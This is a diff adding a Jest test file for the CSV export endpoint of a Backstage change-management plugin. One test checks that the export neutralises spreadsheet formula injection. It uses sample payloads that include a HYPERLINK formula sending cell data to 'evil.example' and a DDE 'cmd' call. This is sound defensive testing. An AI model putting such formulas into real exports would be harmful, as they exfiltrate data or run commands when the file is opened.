@@ -1,0 +1,231 @@
+import { Entity } from '@backstage/catalog-model';
+import { parse } from 'csv-parse/sync';
+import { text } from 'node:stream/consumers';
+import { Readable } from 'node:stream';
+import { completedChange } from '../__testUtils__/bulkChanges';
+import { actionFields, drafts } from '../__testUtils__/changes';
+import { changeIn } from '../__testUtils__/changeIn';
+import {
+  Harness,
+  OPEN_TIME,
+  startChangeManagement,
+} from '../__testUtils__/harness';
+import { sampleEntities } from '../__testUtils__/sampleCatalog';
+import { createTestDatabases } from '../__testUtils__/testDatabases';
+import { toChangeLogRow, toCsvStream } from '../service/changeLog';
+
+jest.setTimeout(120_000);
+
+/** The sample catalog, with display names for people and one System. */
+const entities: Entity[] = sampleEntities.map(entity => {
+  const names: Record<string, string> = {
+    alice: 'Alice Martin',
+    bob: 'Bob Chen',
+    carol: 'Carol Diaz',
+    payments: 'Payments platform',
+  };
+  const name = names[entity.metadata.name];
+  if (entity.kind === 'User' && name) {
+    return {
+      ...entity,
+      spec: { ...entity.spec, profile: { displayName: name } },
+    };
+  }
+  if (entity.kind === 'System' && name) {
+    return { ...entity, metadata: { ...entity.metadata, title: name } };
+  }
+  return entity;
+});
+
+const T = OPEN_TIME;
+const YEAR = 'from=2026-01-01&to=2027-01-01';
+
+/** The CSV of a range, as records keyed by header. */
+async function csvOf(h: Harness, query = YEAR) {
+  const res = await h.as('oscar').get(`/export?${query}`);
+  expect(res.status).toBe(200);
+  expect(res.headers['content-type']).toMatch(/^text\/csv/);
+  return parse(res.text, { columns: true }) as Record<string, string>[];
+}
+
+describe('GET /export', () => {
+  const databases = createTestDatabases();
+
+  describe.each(databases.eachSupportedId())('%p', databaseId => {
+    const start = async () =>
+      startChangeManagement({
+        knex: await databases.init(databaseId),
+        entities,
+      });
+
+    it('writes every column of a completed standard change', async () => {
+      const h = await start();
+      const change = await changeIn(h, 'standard', 'completed');
+      const [row, ...more] = await csvOf(h);
+      expect(more).toEqual([]);
+      const carol = `user:default/carol at ${T}`;
+      expect(row).toEqual({
+        ID: change.id,
+        Date: T,
+        'Change type': 'Standard',
+        Description:
+          'Upgrade the PSP SDK to v5: Moves payments-service to PSP SDK v5 for 3DS2 support.',
+        'Systems affected':
+          'system:default/payments component:default/payments-service',
+        'Raised by': 'user:default/alice',
+        'Reviewed by': `user:default/bob at ${T}`,
+        'CTO approval': `approved by ${carol}; production sign-off by ${carol}`,
+        'Staging tested': 'Yes',
+        'Deployed to production': `user:default/alice at ${T}`,
+        'Post-deployment verified': 'Yes',
+        'Issues encountered': '',
+        State: 'Completed',
+        Incident: '',
+        Retrospective: '',
+        Exceptions: '',
+        'Raised by (name)': 'Alice Martin',
+        Reviewer: 'user:default/bob',
+        'Reviewer (name)': 'Bob Chen',
+        'Reviewed at': T,
+        Approver: 'user:default/carol',
+        'Approver (name)': 'Carol Diaz',
+        'Approved at': T,
+        'Signed off by': 'user:default/carol',
+        'Signed off by (name)': 'Carol Diaz',
+        'Signed off at': T,
+        Deployer: 'user:default/alice',
+        'Deployer (name)': 'Alice Martin',
+        'Deployed at': T,
+        'Deployment ref': 'https://ci.example.com/runs/7',
+        Verifier: 'user:default/alice',
+        'Verifier (name)': 'Alice Martin',
+        'Verified at': T,
+        'Systems affected (names)': 'Payments platform, payments-service',
+        'Incident ref': '',
+        'Incident severity': '',
+        'Retrospective due at': '',
+        'Retrospective at': '',
+        'Retrospective by': '',
+        'Retrospective by (name)': '',
+        'Retrospective late': '',
+        'Retrospective overdue': '',
+      });
+    });
+
+    it('writes the emergency and exception columns', async () => {
+      const h = await start();
+      const emergency = await changeIn(h, 'emergency', 'retrospective_done');
+      const draft = await changeIn(h, 'standard', 'in_review');
+      await h.act('carol', draft.id, 'waive-review', {
+        reason: 'Only engineer on call',
+      });
+      const rows = await csvOf(h);
+      const byId = Object.fromEntries(rows.map(r => [r.ID, r]));
+      expect(byId[emergency.id]).toMatchObject({
+        'Change type': 'Emergency',
+        'Staging tested': 'N/A',
+        State: 'Retrospective done',
+        Incident: 'INC-1042 (P1)',
+        Retrospective: `documented by user:default/alice at ${T}`,
+        'Incident ref': 'INC-1042',
+        'Incident severity': 'P1',
+        'Retrospective due at': emergency.retrospectiveDueAt,
+        'Retrospective at': T,
+        'Retrospective by': 'user:default/alice',
+        'Retrospective by (name)': 'Alice Martin',
+        'Retrospective late': 'No',
+        'Retrospective overdue': 'No',
+      });
+      expect(emergency.retrospectiveDueAt).toMatch(/^2026-06-1\dT/);
+      expect(byId[draft.id]).toMatchObject({
+        State: 'Awaiting approval',
+        Exceptions: 'waived-review: Only engineer on call',
+        'Reviewed by': '',
+        Reviewer: '',
+      });
+      // JSON keeps the identifiers programs read.
+      const json = await h.as('oscar').get(`/export?${YEAR}&format=json`);
+      const states = json.body.items.map((r: any) => [r.id, r.state]);
+      expect(states.sort()).toEqual(
+        [
+          [emergency.id, 'retrospective_done'],
+          [draft.id, 'awaiting_approval'],
+        ].sort(),
+      );
+    });
+
+    it('neutralises cells that a spreadsheet would run as formulas', async () => {
+      const h = await start();
+      const payloads = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        '+SUM(1+1)',
+        "-2+3+cmd|' /C calc'!A0",
+        '@SUM(1+1)',
+      ];
+      for (const title of payloads) {
+        const { body } = await h
+          .as('alice')
+          .post('/changes', { ...drafts.standard, title });
+        await h.act('alice', body.id, 'cancel', actionFields.cancel);
+      }
+      const verified = await changeIn(h, 'standard', 'deployed');
+      await h.act('alice', verified.id, 'verify', {
+        postDeploymentVerified: 'no',
+        issuesEncountered: '=1+2',
+      });
+      const rows = await csvOf(h);
+      const descriptions = rows.map(r => r.Description);
+      for (const title of payloads) {
+        expect(descriptions).toContain(
+          `'${title}: ${drafts.standard.description}`,
+        );
+      }
+      expect(rows.map(r => r['Issues encountered'])).toContain(`'=1+2`);
+      for (const row of rows) {
+        for (const cell of Object.values(row)) {
+          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+    });
+
+    // The API trims titles, so a leading tab or carriage return can only
+    // come from elsewhere; the CSV writer neutralises them all the same.
+    it.each(['\t=1+1', '\r=1+1'])(
+      'neutralises a cell starting with %j',
+      async title => {
+        const change = { ...completedChange(1, new Date(T)), title };
+        const row = toChangeLogRow({ ...change, overdue: false }, ref => ref);
+        const csv = await text(toCsvStream(Readable.from([[row]])));
+        const [parsed] = parse(csv, { columns: true }) as Record<
+          string,
+          string
+        >[];
+        expect(parsed.Description).toBe(`'${title}: ${change.description}`);
+      },
+    );
+
+    it('filters by entity (a System includes its parts) and by type', async () => {
+      const h = await start();
+      const service = await changeIn(h, 'standard', 'draft');
+      const db = (await h.as('alice').post('/changes', drafts.infrastructure))
+        .body;
+      const web = (
+        await h.as('dana').post('/changes', {
+          ...drafts.standard,
+          affectedEntityRefs: ['component:default/storefront-web'],
+        })
+      ).body;
+      const ids = async (query: string) =>
+        (await csvOf(h, `${YEAR}&${query}`)).map(r => r.ID);
+      expect(await ids('entityRef=system:default/payments')).toEqual([
+        service.id,
+        db.id,
+      ]);
+      expect(await ids('entityRef=component:default/storefront-web')).toEqual([
+        web.id,
+      ]);
+      expect(await ids('type=infrastructure')).toEqual([db.id]);
+      expect(await csvOf(h, 'from=2026-06-11&to=2026-07-01')).toEqual([]);
+    });
+  });
+});
